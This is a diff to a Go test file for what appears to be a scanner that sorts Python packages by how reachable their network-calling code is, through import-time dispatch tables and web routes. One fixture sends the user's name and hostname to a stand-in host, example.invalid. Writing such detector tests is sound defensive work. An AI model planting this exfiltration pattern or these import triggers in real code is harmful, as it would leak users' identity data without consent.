@@ -60,6 +60,15 @@ func TestReachability(t *testing.T) {
 			"p/registry.py": "class Registry(dict):\n    def register(self, name, fn):\n        self[name] = fn\nhandlers = Registry()\n",
 			"p/net.py":      beacon,
 		}, false, Suspicious, Runtime},
+		{"a verb table stored on a parser made on import", map[string]string{
+			"p/__init__.py": "from .cli import Parser\nPARSER = Parser()\n",
+			"p/cli.py":      "from . import net\nclass Parser:\n    def __init__(self):\n        self.VERBS = {'report': net.collect}\n",
+			"p/net.py":      beacon,
+		}, false, Suspicious, Runtime},
+		{"a dispatch table indexed and called on import", map[string]string{
+			"p/__init__.py": "from . import net\nVERBS = {'report': net.collect}\nVERBS['report']()\n",
+			"p/net.py":      beacon,
+		}, false, Malicious, Import},
 		{"a web route that runs when a request comes", map[string]string{
 			"p/__init__.py": "import getpass, socket, requests\nfrom flask import Flask\napp = Flask(__name__)\n@app.route('/')\ndef hello():\n    requests.post('https://example.invalid/c', data={'u': getpass.getuser(), 'h': socket.gethostname()})\n",
 		}, false, Suspicious, Runtime},
